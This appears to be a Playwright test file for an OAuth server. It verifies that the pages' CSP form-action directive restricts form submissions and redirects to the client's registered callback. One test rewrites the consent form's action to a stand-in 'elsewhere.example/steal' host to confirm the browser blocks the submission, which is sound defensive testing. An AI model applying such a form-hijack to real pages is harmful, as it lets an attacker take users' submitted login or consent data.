"""CSP form-action in a real browser: Chromium applies it to every redirect after a submitted
form, so the interaction pages name the client's redirect origin, and nothing else."""

from __future__ import annotations

from urllib.parse import urlencode

from playwright.sync_api import Page, Route

from authserver.provisioning import Credentials
from tests.browser.conftest import Callback, log_in, open_authorize
from tests.flow import authorize_params, pkce_pair, query_of
from tests.harness import AuthServer

WEB_CALLBACK = "https://assistant.example/oauth/callback"


def _allow(page: Page) -> None:
    page.get_by_role("button", name="Allow").click()


def test_an_https_client_gets_its_code_after_the_consent_form(
    page: Page, auth_server: AuthServer
) -> None:
    client = auth_server.client(public=True, redirect_uris=[WEB_CALLBACK]).id
    arrived: list[str] = []

    def assistant(route: Route) -> None:
        arrived.append(route.request.url)
        route.fulfill(status=200, body="back at the assistant")

    page.route(f"{WEB_CALLBACK}**", assistant)
    _, challenge = pkce_pair()
    params = authorize_params(client, challenge, redirect_uri=WEB_CALLBACK)
    page.goto(f"{auth_server.url}/authorize?{urlencode(params)}")
    log_in(page, auth_server.account().email)
    _allow(page)
    page.wait_for_url(f"{WEB_CALLBACK}**")
    assert arrived and "code" in query_of(arrived[-1])


def test_a_loopback_client_gets_its_code_after_the_login_form(
    page: Page, auth_server: AuthServer, confidential_client: Credentials, callback: Callback
) -> None:
    """Remembered consent: the login form's answer redirects straight to the client (a
    confidential one: a public client answered on this device is always asked again)."""
    email = auth_server.account().email
    open_authorize(page, auth_server, confidential_client.id, callback)
    log_in(page, email)
    _allow(page)
    page.wait_for_url(f"{callback.uri}**")
    page.context.clear_cookies()
    open_authorize(page, auth_server, confidential_client.id, callback)
    log_in(page, email)
    page.wait_for_url(f"{callback.uri}**")
    assert len(callback.urls) == 2 and "code" in callback.params()


def test_a_form_pointed_elsewhere_is_not_submitted(
    page: Page, auth_server: AuthServer, public_client: str, callback: Callback
) -> None:
    """What form-action is for: markup that gets into a page cannot post its fields away."""
    posted: list[str] = []

    def elsewhere(route: Route) -> None:
        posted.append(route.request.url)
        route.fulfill(status=200, body="got it")

    page.route("https://elsewhere.example/**", elsewhere)
    open_authorize(page, auth_server, public_client, callback)
    log_in(page, auth_server.account().email)
    page.locator("form").first.evaluate(
        "form => form.setAttribute('action', 'https://elsewhere.example/steal')"
    )
    page.evaluate(
        "window.violations = [];"
        " document.addEventListener('securitypolicyviolation',"
        " event => window.violations.push(event.effectiveDirective))"
    )
    page.get_by_role("button", name="Allow").click(no_wait_after=True)
    # Polled from here: wait_for_function evaluates a string, which the pages' CSP forbids.
    for _ in range(50):
        if page.evaluate("window.violations.length"):
            break
        page.wait_for_timeout(100)
    assert page.evaluate("window.violations") == ["form-action"]
    assert not posted and not callback.urls
